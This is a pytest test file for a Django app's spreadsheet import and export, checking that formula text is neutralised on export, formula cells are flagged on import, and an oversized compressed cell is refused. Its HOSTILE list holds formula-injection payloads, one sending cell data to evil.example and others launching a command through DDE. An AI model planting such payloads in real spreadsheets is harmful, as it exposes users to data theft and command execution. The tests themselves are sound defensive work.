"""Spreadsheet safety: exports never write a live formula, imports say what
a formula cell is and stay within bounded memory on hostile files."""

import datetime as dt
import io
import tracemalloc
import zipfile

import pytest
from openpyxl import load_workbook

from lantoa.analytics.exports.xlsx import dashboard_xlsx
from lantoa.analytics.periods import Period
from lantoa.analytics.selectors import dashboard_for
from lantoa.core.spreadsheets import safe_text
from lantoa.org.exporting import member_export_xlsx
from lantoa.org.importing.columns import ImportFileError, map_header
from lantoa.org.importing.readers import open_table
from lantoa.org.importing.validation import RowCleaner
from lantoa.org.importing.xlsx import MAX_CELL_CHARS, open_first_sheet
from lantoa.org.models import OrgUnit
from lantoa.org.tests.factories import MemberFactory
from lantoa.org.tests.import_files import HEADER, officer_at, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B5,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("value", ["+84 912 345 678", "-5", "Nguyễn Văn An", 12, None])
def test_plain_values_are_kept(value):
    assert safe_text(value) == value


def _formulas(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


@pytest.mark.django_db
def test_member_export_writes_no_formula(tree, tmp_path):
    for i, name in enumerate(HOSTILE):
        MemberFactory(unit=tree.unit, full_name=name, employee_code=f"=NV{i}")
    out = tmp_path / "out.xlsx"
    member_export_xlsx(actor=officer_at(tree.unit), unit=tree.unit, out=out)
    data = out.read_bytes()
    assert _formulas(data) == []
    names = {row[0] for row in load_workbook(out).active.iter_rows(min_row=2, values_only=True)}
    assert "'" + HOSTILE[0] in names


@pytest.mark.django_db
def test_member_export_imports_back_unchanged(tree, tmp_path):
    MemberFactory(unit=tree.unit, full_name="=Nguyễn Văn An", employee_code="NV-1")
    out = tmp_path / "out.xlsx"
    member_export_xlsx(actor=officer_at(tree.unit), unit=tree.unit, out=out)
    with open_table(out) as table:
        rows = [cells for _number, cells in table.rows if cells]
    assert "'=Nguyễn Văn An" in rows[1]


@pytest.mark.django_db
def test_dashboard_export_writes_no_formula(tree):
    OrgUnit.objects.filter(pk=tree.unit.pk).update(name=HOSTILE[0])
    tree.root.refresh_from_db()
    data = dashboard_xlsx(dashboard_for(tree.root, Period.last_months(3), use_cache=False))
    assert _formulas(data) == []


def test_a_formula_cell_on_import_says_so(tmp_path):
    header = ["Họ và tên", "Mã nhân viên", "Mã đơn vị"]
    path = write_xlsx(tmp_path / "ds.xlsx", [["=CONCAT(X1,Y1)", "NV-1", "KVT"]], header)
    with open_first_sheet(path) as (rows, _total):
        cells = next(c for n, c in rows if n == 2)
    cleaner = RowCleaner(map_header(header, 1), today=dt.date(2026, 1, 1))
    row, errors = cleaner.clean(2, cells)
    assert row is None
    assert [(e.code, e.message) for e in errors] == [
        (
            "formula",
            "Họ và tên là công thức (=CONCAT(X1,Y1)): hãy dán giá trị thay cho công thức "
            "(Dán đặc biệt → Giá trị) rồi tải lên lại.",
        )
    ]


def _huge_cell_xlsx(path, chars):
    """A tiny file (compressed) holding one cell of `chars` characters."""
    path = write_xlsx(path, [["Nguyễn Văn An", "NV-1", "KVT"]], HEADER[:3])
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    cell = f'<c r="D2" t="inlineStr"><is><t>{"A" * chars}</t></is></c>'.encode()
    parts[sheet] = parts[sheet].replace(b"</row></sheetData>", cell + b"</row></sheetData>", 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def test_one_huge_cell_is_refused_in_bounded_memory(tmp_path):
    path = _huge_cell_xlsx(tmp_path / "huge.xlsx", 64 * 1024 * 1024)
    assert path.stat().st_size < 1024 * 1024
    tracemalloc.start()
    try:
        with pytest.raises(ImportFileError) as caught, open_table(path) as table:
            for _ in table.rows:
                pass
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert f"{MAX_CELL_CHARS:,}".replace(",", ".") in caught.value.message
    # The 64 M-character cell is never held: far below its own size.
    assert peak < 8 * 1024 * 1024
